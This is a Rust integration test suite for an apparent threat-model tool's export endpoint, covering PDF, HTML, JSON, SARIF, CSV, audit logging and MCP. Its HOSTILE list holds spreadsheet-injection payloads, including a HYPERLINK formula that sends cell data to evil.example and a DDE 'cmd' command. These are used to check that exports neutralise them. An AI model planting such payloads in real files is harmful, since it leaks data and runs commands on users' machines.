//! Reports and exports through the real binary (issue 17): every format of
//! `GET /api/models/{id}/export`, checked with the tools an auditor would use (poppler's
//! pdfinfo/pdftotext/pdftoppm, the OASIS SARIF schema, an RFC 4180 reader), hostile cell
//! values, reproducibility, bad parameters, the activity feed and the audit log, and MCP
//! `export_threat_model` returning the REST bytes.

use std::io::Read as _;
use std::process::Command;

use serde_json::{Value, json};

use crate::assurance::{Fixture, fixture, results_body, served, submit};
use crate::harness::{Client, json, require_tool};

/// Cell values a spreadsheet would evaluate, plus quoting hazards.
const HOSTILE: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "Orders, \"quoted\"; and more",
];

/// Adds hostile assets, assertions on the first control, and a signed (notarized) tier-1
/// run, so every section of both reports has content.
fn populate(f: &Fixture) -> Vec<String> {
    let mut ids = Vec::new();
    for name in HOSTILE {
        let (status, body) = json(f.owner.post(
            &format!("/api/models/{}/assets", f.model),
            json!({"name": name, "description": format!("hostile {name}\nsecond line, \"quoted\""), "properties": ["confidentiality"], "impact": "high"}),
        ));
        assert_eq!(status, 201, "{body}");
        ids.push(body["id"].as_str().expect("id").to_string());
    }
    let (status, created) = submit(
        f,
        json!([
            {"type": "function_exists", "params": {"file": "app/upload.py", "name": "validate_upload"}, "description": "Upload validation exists", "repo": "acme/web"},
            {"type": "file_exists", "params": {"file": "app/limits.py"}, "description": "Upload limits are configured", "repo": "acme/web"}
        ]),
    );
    assert_eq!(status, 201, "{created}");
    let served = served(f);
    let (status, run) = json(f.verifier.post(
        &format!("/api/models/{}/verification/results", f.model),
        results_body(&served, 1, "pass"),
    ));
    assert_eq!(status, 200, "{run}");
    ids
}

fn export(c: &Client, model: &str, query: &str) -> reqwest::blocking::Response {
    c.get(&format!("/api/models/{model}/export?{query}"))
}

fn bytes_of(c: &Client, model: &str, query: &str) -> Vec<u8> {
    let r = export(c, model, query);
    assert_eq!(r.status(), 200, "{query}");
    r.bytes().expect("body").to_vec()
}

fn header(r: &reqwest::blocking::Response, name: &str) -> String {
    r.headers()
        .get(name)
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default()
        .to_string()
}

fn run(tool: &str, args: &[&str]) -> String {
    let out = Command::new(require_tool(tool))
        .args(args)
        .output()
        .expect("run tool");
    assert!(
        out.status.success(),
        "{tool} {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).to_string()
}

/// pdfinfo accepts the file; returns its page count.
fn pdf_pages(path: &std::path::Path) -> usize {
    let info = run("pdfinfo", &[path.to_str().expect("path")]);
    info.lines()
        .find_map(|l| l.strip_prefix("Pages:"))
        .and_then(|n| n.trim().parse().ok())
        .unwrap_or_else(|| panic!("no page count in {info}"))
}

/// Every page renders: pdftoppm writes one image per page.
fn assert_renders(path: &std::path::Path, pages: usize, dir: &std::path::Path) {
    let prefix = dir.join("page");
    run(
        "pdftoppm",
        &[
            "-r",
            "40",
            "-png",
            path.to_str().expect("path"),
            prefix.to_str().expect("prefix"),
        ],
    );
    let rendered = std::fs::read_dir(dir)
        .expect("dir")
        .filter_map(Result::ok)
        .filter(|e| e.file_name().to_string_lossy().starts_with("page"))
        .filter(|e| e.metadata().is_ok_and(|m| m.len() > 100))
        .count();
    assert_eq!(rendered, pages, "pdftoppm rendered every page");
}

/// A strict RFC 4180 reader (CRLF records, quoted fields with doubled quotes).
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut field = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if quoted {
            match c {
                '"' if chars.peek() == Some(&'"') => {
                    chars.next();
                    field.push('"');
                }
                '"' => quoted = false,
                c => field.push(c),
            }
        } else {
            match c {
                '"' => {
                    assert!(field.is_empty(), "quote inside an unquoted field: {field}");
                    quoted = true;
                }
                ',' => row.push(std::mem::take(&mut field)),
                '\r' => {
                    assert_eq!(chars.next(), Some('\n'), "CR must start CRLF");
                    row.push(std::mem::take(&mut field));
                    rows.push(std::mem::take(&mut row));
                }
                '\n' => panic!("bare LF outside quotes"),
                c => field.push(c),
            }
        }
    }
    assert!(!quoted, "unterminated quote");
    assert!(row.is_empty() && field.is_empty(), "last record lacks CRLF");
    rows
}

#[test]
fn every_format_exports_through_the_real_binary() {
    let f = fixture("exp-formats");
    populate(&f);
    let (_, model) = json(f.owner.get(&format!("/api/models/{}", f.model)));
    let title = model["title"].as_str().expect("title").to_string();
    let control_ids: Vec<String> = model["controls"]
        .as_array()
        .expect("controls")
        .iter()
        .map(|c| c["id"].as_str().expect("id").to_string())
        .collect();
    let work = f.dir.path().join("out");
    std::fs::create_dir_all(&work).expect("dir");

    // Threat-model PDF: headers, pdfinfo, text, rendering.
    let r = export(&f.owner, &f.model, "format=pdf");
    assert_eq!(r.status(), 200);
    assert_eq!(header(&r, "content-type"), "application/pdf");
    let cd = header(&r, "content-disposition");
    let day = chrono::Utc::now().format("%Y-%m-%d").to_string();
    assert!(
        cd.starts_with("attachment; filename=\"")
            && cd.contains("-threat-model-")
            && cd.contains(&day)
            && cd.ends_with(".pdf\""),
        "{cd}"
    );
    let pdf = r.bytes().expect("pdf").to_vec();
    assert!(pdf.starts_with(b"%PDF-"));
    let path = work.join("tm.pdf");
    std::fs::write(&path, &pdf).expect("write");
    let pages = pdf_pages(&path);
    assert!(pages >= 3, "cover+contents, diagram, body: {pages}");
    let text = run("pdftotext", &["-layout", path.to_str().expect("p"), "-"]);
    let flat = text.split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(flat.contains(&title), "title in the PDF text");
    for needle in [
        "Contents",
        "Trust boundaries",
        "Control objectives",
        "Page 1 of",
    ] {
        assert!(flat.contains(needle), "{needle} missing");
    }
    for a in model["assets"].as_array().expect("assets") {
        let name = a["name"].as_str().expect("name");
        // Wrapped table cells may split long names; the first word is always there.
        let first = name.split_whitespace().next().expect("word");
        assert!(flat.contains(first), "asset {name} missing");
    }
    for id in &control_ids {
        assert!(flat.contains(id.as_str()), "control {id} missing");
    }
    let tm_dir = work.join("tm-pages");
    std::fs::create_dir_all(&tm_dir).expect("dir");
    assert_renders(&path, pages, &tm_dir);

    // Compliance coverage (issue 16): with a framework selected, the assurance report shows
    // the compliance service's counts for it.
    let (status, sel) = json(f.owner.send(
        "PUT",
        &format!("/api/models/{}/compliance/frameworks", f.model),
        Some(&json!({"framework_ids": ["iso-27001-2022"]})),
    ));
    assert_eq!(status, 200, "{sel}");
    let (status, coverage) = json(f.owner.get(&format!(
        "/api/models/{}/compliance/report?framework=iso-27001-2022",
        f.model
    )));
    assert_eq!(status, 200, "{coverage}");

    // Assurance PDF: the evidence and the commands an auditor runs.
    let path = work.join("assurance.pdf");
    std::fs::write(
        &path,
        bytes_of(&f.owner, &f.model, "format=pdf&report=assurance"),
    )
    .expect("write");
    let pages = pdf_pages(&path);
    let text = run("pdftotext", &[path.to_str().expect("p"), "-"]);
    let flat = text.split_whitespace().collect::<Vec<_>>().join(" ");
    let (_, runs) = json(
        f.owner
            .get(&format!("/api/models/{}/verification/runs", f.model)),
    );
    let run_id = runs[0]["run_id"].as_str().expect("run");
    for needle in [
        "Assurance report",
        "Produced by",
        "Verification runs",
        run_id,
        "openssl dgst -sha256 -verify",
        "platform_notary",
        "0123456789ab",
        f.control.as_str(),
        "Compliance coverage",
        "iso-27001-2022",
    ] {
        assert!(
            flat.contains(needle),
            "{needle} missing from the assurance PDF"
        );
    }
    let a_dir = work.join("a-pages");
    std::fs::create_dir_all(&a_dir).expect("dir");
    assert_renders(&path, pages, &a_dir);

    // HTML: self-contained, no scripts, escaped, printable.
    for report in ["threat-model", "assurance"] {
        let r = export(&f.owner, &f.model, &format!("format=html&report={report}"));
        assert_eq!(r.status(), 200);
        assert_eq!(header(&r, "content-type"), "text/html; charset=utf-8");
        let html = r.text().expect("html");
        assert!(html.starts_with("<!doctype html>"));
        assert!(html.contains("<style>") && html.contains("@page"));
        let lower = html.to_ascii_lowercase();
        for bad in [
            "<script",
            "src=\"http",
            "href=\"http",
            "@import",
            "<link",
            "<img",
        ] {
            assert!(!lower.contains(bad), "{report}: {bad}");
        }
        // Only references inside the document (the diagram's arrow marker).
        assert!(
            lower
                .match_indices("url(")
                .all(|(i, _)| lower[i..].starts_with("url(#")),
            "{report}: a url() outside the document"
        );
        assert!(!html.contains("=HYPERLINK(\"http"), "quotes are escaped");
        assert!(html.contains(&title.replace('&', "&amp;")));
    }
    let html = String::from_utf8(bytes_of(&f.owner, &f.model, "format=html")).expect("utf8");
    assert!(
        html.contains("<svg") && html.contains("tb-diagram"),
        "the diagram"
    );

    // JSON: the full model document with its schema version.
    let (status, doc) = json(export(&f.owner, &f.model, "format=json"));
    assert_eq!(status, 200);
    assert_eq!(doc["schema"], "rampart.threat-model");
    assert_eq!(doc["schema_version"], 1);
    assert_eq!(doc["model"]["id"], f.model.as_str());
    assert_eq!(doc["model"]["controls"], model["controls"]);
    assert!(doc["model"]["counters"].is_object(), "the full document");
    let (status, doc) = json(export(&f.owner, &f.model, "format=json&report=assurance"));
    assert_eq!(status, 200);
    assert_eq!(doc["schema"], "rampart.assurance-report");
    let iso = &doc["compliance"][0];
    assert_eq!(iso["framework_id"], "iso-27001-2022");
    for k in ["covered", "partial", "uncovered", "not_applicable"] {
        assert_eq!(iso[k], coverage["counts"][k], "{k}");
    }
    assert_eq!(doc["runs"][0]["run_id"], run_id);
    let sig = &doc["runs"][0]["signatures"][0];
    assert_eq!(sig["signer"], "platform_notary");
    assert_eq!(sig["fingerprint"].as_str().expect("fp").len(), 64);
    // The report's openssl commands check the signature as an auditor would run them: the
    // key's fingerprint, the signed bytes' hash, and "Verified OK".
    require_tool("curl");
    require_tool("jq");
    let openssl = require_tool("openssl");
    let (_, key) = json(f.owner.post(
        "/api/api-keys",
        json!({"name": "auditor", "scope": "developer"}),
    ));
    let commands = sig["verify_commands"].as_str().expect("commands");
    for line in commands.lines() {
        assert!(
            line.chars().count() <= 110,
            "fits the PDF's code block: {line}"
        );
    }
    let audit = work.join("audit");
    std::fs::create_dir_all(&audit).expect("dir");
    let out = Command::new("bash")
        .args(["-euo", "pipefail", "-c", commands])
        .current_dir(&audit)
        .env("RAMPART_URL", &f.app.url)
        .env("RAMPART_KEY", key["key"].as_str().expect("key"))
        .env(
            "PATH",
            format!(
                "{}:{}",
                openssl.parent().expect("dir").display(),
                std::env::var("PATH").unwrap_or_default()
            ),
        )
        .output()
        .expect("bash");
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success() && stdout.contains("Verified OK"),
        "{commands}\n{stdout}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let hashes: Vec<&str> = stdout.lines().filter_map(|l| l.split(' ').next()).collect();
    assert_eq!(hashes[0], sig["fingerprint"].as_str().expect("fp"));
    assert_eq!(hashes[1], sig["message_sha256"].as_str().expect("sha"));
    let c = doc["controls"]
        .as_array()
        .expect("controls")
        .iter()
        .find(|c| c["id"] == f.control.as_str())
        .expect("control");
    assert_eq!(c["assertions"][0]["tier1"]["status"], "pass");
    assert_eq!(
        c["assertions"][0]["tier1"]["commit_sha"], "0123456789abcdef0123456789abcdef01234567",
        "the commit each result was checked at"
    );

    // SARIF: valid against the vendored OASIS schema, with rule ids and file locations.
    let r = export(&f.owner, &f.model, "format=sarif");
    assert_eq!(header(&r, "content-type"), "application/sarif+json");
    let sarif: Value = r.json().expect("sarif");
    let schema: Value =
        serde_json::from_str(include_str!("fixtures/sarif-schema-2.1.0.json")).expect("schema");
    let validator = jsonschema::options()
        .should_validate_formats(true)
        .build(&schema)
        .expect("validator");
    let errors: Vec<String> = validator
        .iter_errors(&sarif)
        .map(|e| format!("{e} at {}", e.instance_path()))
        .collect();
    assert!(errors.is_empty(), "{errors:#?}");
    let results = sarif["runs"][0]["results"].as_array().expect("results");
    assert!(!results.is_empty());
    let rules: Vec<&str> = results
        .iter()
        .map(|r| r["ruleId"].as_str().expect("rule"))
        .collect();
    assert!(rules.contains(&"rampart/control-unverified"), "{rules:?}");
    assert!(rules.iter().all(|r| r.starts_with("rampart/")));
    let with_file = results
        .iter()
        .find(|r| r["properties"]["control_id"] == f.control.as_str())
        .expect("the control with assertions");
    assert_eq!(
        with_file["locations"][0]["physicalLocation"]["artifactLocation"]["uri"],
        "app/limits.py"
    );
    // A broken document fails the same validator (the check can fail).
    let mut broken = sarif.clone();
    broken["runs"][0]["results"][0]["level"] = json!("fatal");
    assert!(!validator.is_valid(&broken));
}

#[test]
fn csv_tables_are_rfc4180_and_neutralise_formulas() {
    let f = fixture("exp-csv");
    let asset_ids = populate(&f);
    for table in [
        "assets",
        "attackers",
        "objectives",
        "controls",
        "assertions",
    ] {
        let r = export(&f.owner, &f.model, &format!("format=csv&table={table}"));
        assert_eq!(r.status(), 200, "{table}");
        assert_eq!(
            header(&r, "content-type"),
            "text/csv; charset=utf-8; header=present"
        );
        assert!(header(&r, "content-disposition").contains(&format!("-{table}-")));
        let text = r.text().expect("csv");
        let rows = parse_csv(&text);
        assert!(rows.len() >= 2, "{table}: header and data");
        let width = rows[0].len();
        assert!(
            rows.iter().all(|r| r.len() == width),
            "{table}: ragged rows"
        );
        for row in &rows {
            for cell in row {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{table}: a cell a spreadsheet would evaluate: {cell:?}"
                );
            }
        }
    }
    // Default table: controls.
    let text = String::from_utf8(bytes_of(&f.owner, &f.model, "format=csv")).expect("utf8");
    assert!(text.starts_with("control_id,name,"));
    // The hostile names come back as text, prefixed with one quote, otherwise unchanged.
    let rows = parse_csv(
        &String::from_utf8(bytes_of(&f.owner, &f.model, "format=csv&table=assets")).expect("utf8"),
    );
    for (id, name) in asset_ids.iter().zip(HOSTILE) {
        let row = rows.iter().find(|r| &r[0] == id).expect("asset row");
        let expected = if name.starts_with(['=', '+', '-', '@']) {
            format!("'{name}")
        } else {
            name.to_string()
        };
        assert_eq!(row[1], expected);
        assert_eq!(row[2], format!("hostile {name}\nsecond line, \"quoted\""));
    }
    // Assertions carry the commit they were checked at.
    let rows = parse_csv(
        &String::from_utf8(bytes_of(&f.owner, &f.model, "format=csv&table=assertions"))
            .expect("utf8"),
    );
    assert_eq!(rows.len(), 3);
    assert_eq!(rows[1][8], "0123456789abcdef0123456789abcdef01234567");
}

#[test]
fn bad_export_parameters_are_refused_by_name_and_exports_are_recorded() {
    let f = fixture("exp-bad");
    for (query, field) in [
        ("", "format"),
        ("format=docx", "format"),
        ("format=pdf&report=audit", "report"),
        ("format=csv&table=users", "table"),
        ("format=pdf&table=assets", "table"),
    ] {
        let (status, err) = json(export(&f.owner, &f.model, query));
        assert_eq!(status, 400, "{query}: {err}");
        assert_eq!(err["error"]["field"], field, "{query}");
    }
    let (status, _) = json(export(&f.owner, &f.model, "format=pdf&colour=red"));
    assert_eq!(status, 400, "unknown parameters are refused");
    let (status, _) = json(export(
        &f.owner,
        "00000000-0000-4000-8000-000000000000",
        "format=pdf",
    ));
    assert_eq!(status, 404);
    // Refusals record nothing.
    let (_, activity) = json(f.owner.get("/api/activity"));
    assert!(
        !activity
            .as_array()
            .expect("feed")
            .iter()
            .any(|a| a["kind"] == "export")
    );

    // A verifier key (read-only) may export; every export is in the feed with its format.
    assert_eq!(export(&f.verifier, &f.model, "format=sarif").status(), 200);
    assert_eq!(
        export(&f.owner, &f.model, "format=pdf&report=assurance").status(),
        200
    );
    let (_, activity) = json(f.owner.get("/api/activity"));
    let exports: Vec<&Value> = activity
        .as_array()
        .expect("feed")
        .iter()
        .filter(|a| a["kind"] == "export")
        .collect();
    assert_eq!(exports.len(), 2, "{activity:#}");
    assert!(
        exports[0]["summary"]
            .as_str()
            .expect("summary")
            .contains("assurance report")
            && exports[0]["summary"]
                .as_str()
                .expect("s")
                .ends_with("as pdf"),
        "{:?}",
        exports[0]
    );
    assert_eq!(exports[0]["source"], "web");
    assert_eq!(exports[1]["source"], "api");
    assert!(exports[1]["summary"].as_str().expect("s").contains("sarif"));

    // The export buttons of the model and assurance pages are these links (the browser
    // follows them with the session, as the owner's requests above do).
    let page = f
        .owner
        .get(&format!("/models/{}", f.model))
        .text()
        .expect("page");
    assert!(
        page.contains(&format!(
            "href=\"/api/models/{}/export?format=pdf&amp;report=threat-model\"",
            f.model
        )),
        "model page export button"
    );
    let page = f
        .owner
        .get(&format!("/models/{}/assurance", f.model))
        .text()
        .expect("page");
    assert!(
        page.contains(&format!(
            "href=\"/api/models/{}/export?format=pdf&amp;report=assurance\"",
            f.model
        )),
        "assurance page export button"
    );

    // And in the audit log: who, what, which format (read from a backup's plaintext image).
    let backup = f.dir.path().join("b.db.gz.signed");
    let out = f
        .dir
        .cmd()
        .args(["admin", "backup", "--out", backup.to_str().expect("path")])
        .output();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let file = std::fs::read(&backup).expect("backup");
    let end = file
        .windows(8)
        .position(|w| w == b"MIPIBAK\x02")
        .expect("trailer");
    let mut plain = Vec::new();
    flate2::read::GzDecoder::new(&file[..end])
        .read_to_end(&mut plain)
        .expect("gunzip");
    let plain = String::from_utf8_lossy(&plain);
    assert!(plain.contains("model.export"), "audit action");
    assert!(
        plain.contains("format=pdf report=assurance"),
        "audit detail"
    );
    assert!(plain.contains("format=sarif"), "audit detail");
}

#[test]
fn assurance_report_is_reproducible() {
    let f = fixture("exp-repro");
    populate(&f);
    // Same data, same bytes — apart from the production time (to the minute): retry when
    // a minute boundary falls between two exports.
    for format in ["html", "json", "pdf"] {
        let q = format!("format={format}&report=assurance");
        let mut same = false;
        for _ in 0..3 {
            let a = bytes_of(&f.owner, &f.model, &q);
            let b = bytes_of(&f.owner, &f.model, &q);
            if a == b {
                same = true;
                break;
            }
        }
        assert!(same, "{format}: two exports of the same data differ");
    }
    // A change in the data changes the report.
    let before = bytes_of(&f.owner, &f.model, "format=json&report=assurance");
    let served = served(&f);
    let (status, _) = json(f.verifier.post(
        &format!("/api/models/{}/verification/results", f.model),
        results_body(&served, 2, "pass"),
    ));
    assert_eq!(status, 200);
    assert_ne!(
        before,
        bytes_of(&f.owner, &f.model, "format=json&report=assurance")
    );
}

#[test]
fn mcp_export_returns_the_rest_bytes() {
    use base64::Engine as _;
    let f = fixture("exp-mcp");
    populate(&f);
    let (status, created) = json(f.owner.post(
        "/api/api-keys",
        json!({"name": "mcp-export", "scope": "developer"}),
    ));
    assert!((200..300).contains(&status), "{created}");
    let key = created["key"].as_str().expect("key").to_string();
    // The blocking REST client must not run inside the async runtime: each MCP call gets
    // its own `block_on`, the REST requests run between them.
    let rt = crate::mcp::runtime();
    let client = rt.block_on(crate::mcp::connect(&f.app, &key));
    for (args, query) in [
        (
            json!({"model_id": f.model, "format": "csv", "table": "assets"}),
            "format=csv&table=assets",
        ),
        (json!({"model_id": f.model, "format": "pdf"}), "format=pdf"),
        (
            json!({"model_id": f.model, "format": "pdf", "report": "assurance"}),
            "format=pdf&report=assurance",
        ),
        (
            json!({"model_id": f.model, "format": "html", "report": "assurance"}),
            "format=html&report=assurance",
        ),
        (
            json!({"model_id": f.model, "format": "sarif"}),
            "format=sarif",
        ),
    ] {
        let mut matched = false;
        for _ in 0..3 {
            let rest = bytes_of(&f.developer, &f.model, query);
            let out = rt.block_on(crate::mcp::ok(
                client.peer(),
                "export_threat_model",
                args.clone(),
            ));
            let mcp = match out["content_base64"].as_str() {
                Some(b) => base64::engine::general_purpose::STANDARD
                    .decode(b)
                    .expect("base64"),
                None => out["content"]
                    .as_str()
                    .expect("content")
                    .as_bytes()
                    .to_vec(),
            };
            let again = bytes_of(&f.developer, &f.model, query);
            if rest != again {
                continue; // a minute boundary passed: try again
            }
            assert_eq!(mcp, rest, "{query}: MCP and REST bytes differ");
            assert_eq!(out["bytes"], rest.len());
            matched = true;
            break;
        }
        assert!(matched, "{query}");
    }
    let pdf = rt.block_on(crate::mcp::ok(
        client.peer(),
        "export_threat_model",
        json!({"model_id": f.model, "format": "pdf"}),
    ));
    assert_eq!(pdf["media_type"], "application/pdf");
    assert!(pdf["filename"].as_str().expect("name").ends_with(".pdf"));
    let err = rt.block_on(crate::mcp::tool_error(
        client.peer(),
        "export_threat_model",
        json!({"model_id": f.model, "format": "docx"}),
    ));
    assert!(err.contains("format"), "{err}");
    rt.block_on(client.cancel()).ok();
    let (_, activity) = json(f.owner.get("/api/activity"));
    assert!(
        activity
            .as_array()
            .expect("feed")
            .iter()
            .any(|a| a["kind"] == "export" && a["source"] == "mcp"),
        "MCP exports are in the feed"
    );
}
